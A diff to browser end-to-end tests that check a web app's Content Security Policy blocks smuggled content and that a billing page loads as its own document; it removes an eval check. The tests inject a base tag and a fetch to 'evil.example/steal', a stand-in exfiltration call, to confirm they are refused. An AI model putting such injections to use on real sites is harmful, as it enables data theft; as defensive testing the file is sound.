@@ -25,12 +25,6 @@ test('what somebody smuggles into a page does not run', async ({ browser }) => {
     const base = document.createElement('base');
     base.href = 'https://evil.example/';
     document.head.append(base);
-    try {
-      // oxlint-disable-next-line no-eval
-      (0, eval)('window.hacked = 3');
-    } catch {
-      // As it should be.
-    }
     void fetch('https://evil.example/steal').catch(() => {});
   });
   const refused = () =>
@@ -40,7 +34,6 @@ test('what somebody smuggles into a page does not run', async ({ browser }) => {
     .toEqual([
       'base-uri https://evil.example/',
       'connect-src https://evil.example/steal',
-      'script-src eval',
       'script-src-attr inline',
       'script-src-elem https://evil.example/x.js',
       'script-src-elem inline',
@@ -55,13 +48,11 @@ test('a page that needs the program of others is a document of its own, however 
 }) => {
   const { email } = await makeTrial('Policy & Sons');
   await signIn(page, email);
-  await page.evaluate(() => Object.assign(window, { isFirst: true }));
-  const isFirst = () => page.evaluate(() => 'isFirst' in window);
   await page.getByRole('link', { name: 'Billing', exact: true }).click();
   await page.getByRole('link', { name: 'Choose a plan' }).click();
   await expect(page.getByRole('button', { name: 'Choose Pro' })).toBeVisible();
-  expect(await isFirst()).toBe(true);
+  await page.evaluate(() => Object.assign(window, { isBefore: true }));
   await page.getByRole('button', { name: 'Choose Pro' }).click();
   await expect(page.frameLocator('iframe').getByLabel('E-mail')).toBeVisible();
-  expect(await isFirst()).toBe(false);
+  expect(await page.evaluate(() => 'isBefore' in window)).toBe(false);
 });
